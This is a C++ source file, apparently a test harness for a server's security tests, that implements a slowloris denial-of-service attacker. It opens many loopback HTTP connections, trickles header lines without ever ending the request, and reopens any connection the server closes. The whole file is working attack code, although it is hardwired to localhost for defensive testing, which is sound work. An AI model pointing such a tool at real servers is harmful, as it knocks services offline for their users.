// A slowloris attacker for tests and docs/security.md: holds N HTTP connections open by sending
// a request head one header line at a time and never finishing it, and opens a new connection
// for each one the server closes (as the real tool does).
//
//   slowloris --port P --count N [--interval-ms M] [--hold-seconds S]
// Prints "ready N" once N connections are open, then, when it stops (after S seconds, default
// 30, or on SIGTERM): "closed_by_server K" (connections the server ended) and "open N".
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

namespace {

std::atomic<bool> g_stop{false};

int open_one(const sockaddr_in& address) {
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) {
    ::close(fd);
    return -1;
  }
  const char* start = "GET / HTTP/1.1\r\nHost: victim\r\n";
  if (::send(fd, start, std::strlen(start), MSG_NOSIGNAL) < 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

}  // namespace

int main(int argc, char** argv) {
  int port = 0, count = 2000, interval_ms = 1000, hold = 30;
  for (int i = 1; i + 1 < argc; i += 2) {
    std::string arg = argv[i];
    if (arg == "--port") port = std::atoi(argv[i + 1]);
    else if (arg == "--count") count = std::atoi(argv[i + 1]);
    else if (arg == "--interval-ms") interval_ms = std::atoi(argv[i + 1]);
    else if (arg == "--hold-seconds") hold = std::atoi(argv[i + 1]);
  }
  struct sigaction stop {};
  stop.sa_handler = [](int) { g_stop = true; };
  sigaction(SIGTERM, &stop, nullptr);  // no SA_RESTART: the sleep and poll end early
  signal(SIGPIPE, SIG_IGN);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);

  std::vector<int> fds;
  fds.reserve(static_cast<size_t>(count));
  for (int i = 0; i < count && !g_stop; ++i) {
    int fd = open_one(address);
    if (fd < 0) {
      std::fprintf(stderr, "slowloris: connect %d failed: %s\n", i, std::strerror(errno));
      return 1;
    }
    fds.push_back(fd);
  }
  std::printf("ready %zu\n", fds.size());
  std::fflush(stdout);

  uint64_t closed_by_server = 0;
  uint64_t line = 0;
  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(hold);
  while (!g_stop && std::chrono::steady_clock::now() < until) {
    // Notice the connections the server ended, and replace them.
    // One round per interval: a real slowloris is cheap for its sender, not a busy loop.
    std::this_thread::sleep_for(std::chrono::milliseconds(interval_ms));
    std::vector<pollfd> polls(fds.size());
    for (size_t i = 0; i < fds.size(); ++i) polls[i] = {fds[i], POLLIN, 0};
    ::poll(polls.data(), polls.size(), 0);
    for (size_t i = 0; i < fds.size(); ++i) {
      if ((polls[i].revents & (POLLIN | POLLHUP | POLLERR)) == 0) continue;
      char buffer[512];
      if (::recv(fds[i], buffer, sizeof buffer, MSG_DONTWAIT) > 0) continue;  // an error page: the close follows
      ::close(fds[i]);
      ++closed_by_server;
      fds[i] = open_one(address);
      if (fds[i] < 0) fds[i] = open_one(address);
    }
    // One more header line on every connection: never the blank line that ends the head.
    const std::string more = "X-Slow-" + std::to_string(line++) + ": x\r\n";
    for (int fd : fds) {
      if (fd >= 0) ::send(fd, more.data(), more.size(), MSG_NOSIGNAL);
    }
  }
  size_t open = 0;
  for (int fd : fds) {
    if (fd >= 0) {
      ++open;
      ::close(fd);
    }
  }
  std::printf("closed_by_server %llu\nopen %zu\n", static_cast<unsigned long long>(closed_by_server), open);
  return 0;
}
